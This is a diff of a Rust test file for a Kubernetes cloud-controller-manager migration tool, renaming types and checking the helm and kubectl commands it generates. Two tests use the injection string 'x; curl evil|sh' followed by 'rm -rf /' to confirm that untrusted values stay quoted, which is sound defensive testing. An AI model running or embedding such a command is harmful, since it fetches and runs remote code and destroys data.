@@ -10,13 +10,13 @@ fn existing(kind: &str, name: &str, arguments: &Value, annotations: &Value) -> E
     let metadata = json!({"name": name, "namespace": "kube-system", "annotations": annotations});
     let live = json!({"kind": kind, "metadata": metadata, "spec": {"template": {"spec": pod}}});
     let catalog = embedded::catalog().unwrap();
-    let descriptors: Vec<_> = catalog.upstream().map(|one| &one.descriptor).collect();
+    let descriptors: Vec<_> = catalog.kubernetes().map(|one| &one.descriptor).collect();
     Existing::of(&live, &descriptors).unwrap()
 }
 
-fn situation<'a>(draft: &'a Draft, access: &'a Access) -> Situation<'a> {
+fn situation<'a>(proposed: &'a ProposedCcm, access: &'a Access) -> Situation<'a> {
     Situation {
-        draft,
+        proposed,
         cluster: CLUSTER,
         folder: Path::new("."),
         has_operator: false,
@@ -38,21 +38,22 @@ fn helm(release: &str, namespace: &str) -> Value {
 #[test]
 fn what_others_have_written_is_no_part_of_the_shell() {
     let evil = "x; curl evil|sh\n$ rm -rf /";
-    let (draft, access) = (Draft::new("main", "aws", evil), Access { context: Some(evil.into()), ..Access::default() });
+    let (proposed, access) =
+        (ProposedCcm::new("main", "aws", evil), Access { context: Some(evil.into()), ..Access::default() });
     let mut of_helm = existing("DaemonSet", "a", &json!([]), &json!({}));
     of_helm.helm = Some((evil.into(), evil.into()));
     let told = ["leader-elect-resource-name", "leader-elect-resource-namespace"];
     of_helm.flags.extend(told.map(|flag| (flag.to_owned(), Some(evil.to_owned()))));
     assert!(of_helm.check().unwrap_err().contains("can be the name of no object"));
     let plain = existing("Deployment", evil, &json!(["--leader-elect=false"]), &json!({}));
-    let rights = Rights {
+    let permissions = Permissions {
         objects: vec![json!({"kind": "Role", "metadata": {"name": evil, "namespace": evil}})],
-        ..Rights::default()
+        ..Permissions::default()
     };
-    let mut situation = situation(&draft, &access);
+    let mut situation = situation(&proposed, &access);
     situation.has_namespace = false;
     for all in [[of_helm.clone()], [plain.clone()]] {
-        let Steps { next, back, clean_up } = situation.migration(&all, &rights);
+        let Steps { next, back, clean_up } = situation.migration(&all, &permissions);
         for command in commands(&next).into_iter().chain(commands(&back)).chain(commands(&clean_up)) {
             assert!(!command.contains('\n'), "{command}");
             // Outside of quotes there is none of it.
@@ -68,12 +69,12 @@ fn what_others_have_written_is_no_part_of_the_shell() {
 #[test]
 fn flags_in_a_title_are_words_of_the_shell() {
     let evil = "x; curl evil|sh\n$ rm -rf /";
-    let mut draft = Draft::new("main", "aws", "kube-system");
-    draft.set("image.repository", evil);
-    draft.set("leaderElection.leaseName", evil);
-    draft.set("credentials.secretRef.name", evil);
+    let mut proposed = ProposedCcm::new("main", "aws", "kube-system");
+    proposed.set("image.repository", evil);
+    proposed.set("leaderElection.leaseName", evil);
+    proposed.set("credentials.secretRef.name", evil);
     let access = Access::default();
-    let situation = Situation { has_operator: true, ..situation(&draft, &access) };
+    let situation = Situation { has_operator: true, ..situation(&proposed, &access) };
     let titles: Vec<_> = situation.first(&[]).next.into_iter().map(|step| step.title).collect();
     for flag in ["--image-repositories $'x; ", "--leases $'x; ", "--secrets $'x; "] {
         assert!(titles.iter().any(|title| title.contains(flag)), "{titles:?}");
@@ -87,18 +88,19 @@ fn flags_in_a_title_are_words_of_the_shell() {
 #[test]
 fn every_command_reaches_the_cluster_that_was_looked_at() {
     let access = Access { context: Some("prod 1".into()), kubeconfig: Some("k".into()), ..Access::default() };
-    let mut draft = Draft::new("main", "aws", "kube-system");
-    draft.set("credentials.secretRef.name", "aws");
-    draft.skips = Some("other-ccm");
-    draft.secret("aws").put("a", b"b");
-    let rights = Rights { objects: vec![json!({"kind": "Role", "metadata": {"name": "r"}})], ..Rights::default() };
+    let mut proposed = ProposedCcm::new("main", "aws", "kube-system");
+    proposed.set("credentials.secretRef.name", "aws");
+    proposed.skips = Some("other-ccm");
+    proposed.secret("aws").put("a", b"b");
+    let permissions =
+        Permissions { objects: vec![json!({"kind": "Role", "metadata": {"name": "r"}})], ..Permissions::default() };
     let of_helm = existing("DaemonSet", "a", &json!([]), &helm("ccm", "ns"));
     let plain = existing("Deployment", "b", &json!(["--leader-elect=false"]), &json!({}));
     let mut seen = 0;
     for has_operator in [true, false] {
         for all in [[of_helm.clone()], [plain.clone()]] {
-            let situation = Situation { has_operator, ..situation(&draft, &access) };
-            let Steps { next, back, clean_up } = situation.migration(&all, &rights);
+            let situation = Situation { has_operator, ..situation(&proposed, &access) };
+            let Steps { next, back, clean_up } = situation.migration(&all, &permissions);
             let first = situation.first(&all).next;
             for command in [&next, &back, &clean_up, &first].map(|steps| commands(steps)).concat() {
                 let flag = if command.starts_with("helm ") { "--kube-context" } else { "--context" };
@@ -113,14 +115,14 @@ fn every_command_reaches_the_cluster_that_was_looked_at() {
 
 #[test]
 fn a_release_is_uninstalled_once_and_only_if_nothing_else_is_seen_in_it() {
-    let (draft, access) = (Draft::new("main", "azure", "kube-system"), Access::default());
+    let (proposed, access) = (ProposedCcm::new("main", "azure", "kube-system"), Access::default());
     let mut both = ["a", "b"].map(|name| existing("DaemonSet", name, &json!([]), &helm("ccm", "ns")));
     let keys = both.clone().map(|one| one.key()).to_vec();
     for one in &mut both {
         one.of_release.clone_from(&keys);
     }
-    let situation = situation(&draft, &access);
-    let Steps { next, back, .. } = situation.migration(&both, &Rights::default());
+    let situation = situation(&proposed, &access);
+    let Steps { next, back, .. } = situation.migration(&both, &Permissions::default());
     let of_helm = |steps| commands(steps).into_iter().filter(|one| one.starts_with("helm ")).collect::<Vec<_>>();
     let [manifest, history] =
         ["helm get manifest ccm --namespace ns", "helm history ccm --namespace ns"].map(str::to_owned);
@@ -128,19 +130,19 @@ fn a_release_is_uninstalled_once_and_only_if_nothing_else_is_seen_in_it() {
     assert_eq!(of_helm(&back), [&history, "helm rollback ccm REVISION --namespace ns"]);
 
     both[0].of_release.push("Deployment shop/web".into());
-    let next = situation.migration(&both, &Rights::default()).next;
+    let next = situation.migration(&both, &Permissions::default()).next;
     assert_eq!(of_helm(&next), [manifest, history]);
     assert!(next.iter().any(|step| step.title.starts_with("TO DO: ") && step.title.contains("Deployment shop/web")));
 }
 
 #[test]
 fn without_a_lease_the_operator_runs_before_the_old_one_is_stopped() {
-    let mut draft = Draft::new("main", "hcloud", "clouds");
-    draft.set("placement.apiServer", json!({"host": "fd00::10", "port": 6443}));
+    let mut proposed = ProposedCcm::new("main", "hcloud", "clouds");
+    proposed.set("placement.apiServer", json!({"host": "fd00::10", "port": 6443}));
     let (access, old) = (Access::default(), existing("Deployment", "b", &json!(["--leader-elect=F"]), &json!({})));
-    let mut situation = situation(&draft, &access);
+    let mut situation = situation(&proposed, &access);
     situation.has_namespace = false;
-    let next = situation.migration(std::slice::from_ref(&old), &Rights::default()).next;
+    let next = situation.migration(std::slice::from_ref(&old), &Permissions::default()).next;
     let all = commands(&next);
     let at =
         |part: &str| all.iter().position(|command| command.contains(part)).unwrap_or_else(|| panic!("{part}: {all:?}"));
